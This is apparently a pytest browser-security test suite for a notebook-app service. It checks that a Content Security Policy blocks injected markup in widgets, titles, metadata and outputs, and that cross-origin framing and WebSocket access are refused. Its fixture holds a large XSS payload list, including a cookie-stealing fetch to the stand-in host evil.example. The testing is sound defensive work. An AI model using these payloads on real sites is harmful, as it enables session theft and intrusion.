"""What data, titles and the state of widgets can do in a real browser: nothing. Every value here means harm."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import nbformat
import pytest
from playwright.sync_api import expect

import real_chromium
from app_viewers import alive
from apps_service import PREFIX, served_apps
from planted_insights import KERNEL, Planting

pytestmark = pytest.mark.browser
#: Each tries to say that it ran, to ask another host, or to lead somewhere else.
RUN = "document.documentElement.dataset.taken='yes';fetch('http://evil.example/'+document.cookie)"
HARM = f"""
<script>{RUN}</script><script src="http://evil.example/x.js"></script><script src="data:text/javascript,{RUN}"></script>
<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="javascript:parent.{RUN}"></iframe>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<embed src="http://evil.example/e"><base href="http://evil.example/">
<link rel=stylesheet href="http://evil.example/s.css"><style>@import url(http://evil.example/i.css);</style>
<style>body {{ background: url(http://evil.example/b.png) }}</style>
<style>@font-face {{ font-family: f; src: url(http://evil.example/f) }} p {{ font-family: f }}</style>
<img src="http://evil.example/pixel"><video src="http://evil.example/v" autoplay></video>
<a id="lure" href="javascript:{RUN}">a link</a>
<form id="form" action="http://evil.example/form" method="post"><button id="send">Send</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<p>END-OF-HARM</p>
"""
CELL = """
import ipywidgets as w
import traitlets as t
from IPython.display import HTML, Javascript, Markdown, display
harm = {harm!r}
run = {run!r}
box = w.HTML(value=harm, description=harm, placeholder=harm)
said = w.Text(value="nothing", description="said")
echo = w.HTML(value="")
said.observe(lambda change: setattr(echo, "value", change["new"]), names="value")
display(box, w.HTMLMath(value=harm), w.Label(value=harm), w.Dropdown(options=[harm, "b"], description=harm))
tabs = w.Accordion(children=[w.Label("x")]); tabs.set_title(0, harm)
display(tabs, w.Button(description=harm, tooltip=harm), said, echo)
display(HTML(harm), Javascript(run), Markdown(harm))
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + run + "\\"><script>" + run + "</script></svg>"
display({{"image/svg+xml": svg}}, raw=True)
class Foreign(w.DOMWidget):
    _view_name = _model_name = t.Unicode("Taken").tag(sync=True)
    _view_module = _model_module = t.Unicode("http://evil.example/widget.js").tag(sync=True)
tab = w.Tab(children=[w.Label("x")]); tab.set_title(0, harm)
both = {{"text/html": harm, "application/javascript": run}}
shown = {{"output_type": "display_data", "metadata": {{}}, "data": both}}
display(tab, w.Output(outputs=(shown,)), w.Image(value=svg.encode(), format="svg+xml"))
display(w.Image(value=b"x", format='png" onerror="' + run), w.Button(icon='x" onmouseover="' + run))
display(w.Checkbox(description=harm, description_allow_html=True), w.Valid(readout=harm))
display(w.ToggleButtons(options=[harm, "b"], tooltips=[harm, harm], icons=[harm, harm]))
display(w.Label("x", layout=w.Layout(border="1px solid url(http://evil.example/b)", width='1px" onload="' + run)))
display(Foreign())
print("\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07<script>" + run + "</script>")
w.HTML("AT-THE-END")
"""


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    with served_apps(tmp_path_factory.mktemp("apps")) as running:
        yield running


@pytest.fixture(scope="module")
def planting(service):
    planting = Planting(service.settings)
    planting.insight("harm", CELL.format(harm=HARM, run=RUN), ["public"])
    notebook = planting.hub.state / "insights" / "harm" / "1" / "app.ipynb"
    read = nbformat.read(notebook, 4)
    read.metadata = {**KERNEL, "title": f"</title>{HARM}", "lang": f'en"><script>{RUN}</script>'}
    nbformat.write(read, notebook)
    with planting.store() as store:
        store.mark_stale("harm", HARM)
    return planting


class Evil(BaseHTTPRequestHandler):
    """Another site, which notes who asks it for anything."""

    asked: ClassVar[list[str]] = []
    page = ""

    def do_GET(self):
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode() if self.path == "/own" else b"")

    def do_POST(self):
        self.do_GET()

    def log_message(self, *_):
        """Say nothing."""


@pytest.fixture(scope="module")
def evil():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port
    server.shutdown()
    thread.join(10)
    server.server_close()


@pytest.fixture(scope="module")
def tab(service, planting, evil):
    with real_chromium.opened(f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil}") as browser:
        context = browser.new_context()
        page = context.new_page()
        page.refused = []
        page.on("console", lambda message: page.refused.append(message.text))
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
        page.goto(f"{service.address}{PREFIX}harm/")
        alive(page).get_by_text("AT-THE-END").wait_for(timeout=90_000)
        yield page


def taken(page):
    return page.evaluate("document.documentElement.dataset.taken || ''")


def test_nothing_of_the_data_runs_and_no_other_host_is_asked(tab, service):
    assert "END-OF-HARM" in tab.content()
    assert taken(tab) == ""
    assert tab.url == f"{service.address}{PREFIX}harm/"
    assert Evil.asked == []
    assert any("Content Security Policy" in text for text in tab.refused), "the policy had nothing to refuse"


def test_what_a_viewer_types_runs_no_more_than_the_data(tab):
    """The state of a widget that comes back from the kernel as HTML."""
    tab.get_by_label("said").fill(HARM.replace("\n", " ").replace("END-OF-HARM", "ECHO-OF-HARM"))
    tab.get_by_label("said").press("Enter")
    tab.get_by_text("ECHO-OF-HARM").first.wait_for(timeout=60_000)
    assert (taken(tab), Evil.asked) == ("", [])


def test_the_policy_holds_on_every_kind_of_answer(tab, service):
    for path in ("harm/", "harm/voila/static/voila.js", "harm/nothing", "no-such-insight/", "", "harm/?theme=dark"):
        answer = tab.context.request.get(f"{service.address}{PREFIX}{path}", max_redirects=0)
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe-eval" not in policy
        scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
        assert scripts == f"script-src {service.address.removeprefix('http://')}{PREFIX}"
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_page_of_another_site_cannot_frame_an_app_or_read_it(tab, service):
    """The same channel opens to the app's own page, so that it is refused to another means something."""
    kernel = json.loads(tab.locator("#jupyter-config-data").text_content())["kernelId"]
    channel = f"{service.address.replace('http', 'ws', 1)}{PREFIX}harm/api/kernels/{kernel}/channels"
    opens = """address => new Promise(is => {
      const socket = new WebSocket(address);
      socket.onopen = () => { socket.close(); is("open"); };
      socket.onerror = () => is("refused");
    })"""
    assert tab.evaluate(opens, channel) == "open"
    Evil.page = _framing(f"{service.address}{PREFIX}harm/", channel)
    page = tab.context.new_page()
    page.goto("http://evil.example/own")
    assert "/own" in Evil.asked  # it can be reached, so that it was not asked before means something
    page.wait_for_function("window.tried === 2")
    found = json.loads(page.evaluate("JSON.stringify(window.found)"))
    assert found == {"fetched": "refused", "channel": "refused"}
    assert not [frame for frame in page.frames[1:] if frame.url.startswith(service.address)]
    page.close()
    Evil.asked.clear()


def _framing(address, channel):
    return f"""<link rel="icon" href="data:,"><iframe src="{address}"></iframe><script>
      window.found = {{}}; window.tried = 0;
      const is = (name, what) => {{ window.found[name] = what; window.tried += 1; }};
      fetch("{address}", {{credentials: "include"}}).then(() => is("fetched", "read"), () => is("fetched", "refused"));
      const socket = new WebSocket("{channel}");
      socket.onopen = () => is("channel", "open");
      socket.onerror = () => is("channel", "refused");
    </script>"""


def test_a_page_that_is_shut_says_why_in_words_and_not_in_markup(tab, planting):
    """On any screen, and again when it is loaded anew. What is tested after it finds the page shut."""
    reason = "<img src=x onerror=\"document.documentElement.dataset.taken='yes'\">"
    with planting.store() as store:
        store.pause("harm", "bola", reason)
    alert = tab.get_by_role("alert")
    expect(alert).to_have_text(f"This insight is paused: {reason}. Come back later. Load it again", timeout=60_000)
    for width in (320, 1280):
        tab.set_viewport_size({"width": width, "height": 800})
        place = alert.bounding_box()
        assert (place["x"], place["width"]) == (0, width)
        assert alert.evaluate("part => part.scrollWidth <= part.clientWidth"), "words run out of it"
    page = tab.context.new_page()
    page.goto(alert.get_by_role("link", name="Load it again").get_attribute("href"))
    expect(page.get_by_role("heading", name="Paused")).to_be_visible()
    expect(page.locator("main")).to_contain_text(f"This insight is paused: {reason}.")
    assert (taken(tab), taken(page), Evil.asked) == ("", "", [])
    page.close()


def test_a_lure_and_a_form_lead_nowhere(tab, service):
    """A form that is sent ends the page's kernel as leaving the page does, so this comes last."""
    where = tab.url
    tab.locator("#lure").first.dispatch_event("click")
    tab.locator("#send").first.dispatch_event("click")
    tab.wait_for_timeout(300)
    assert (tab.url, taken(tab), Evil.asked) == (where, "", [])
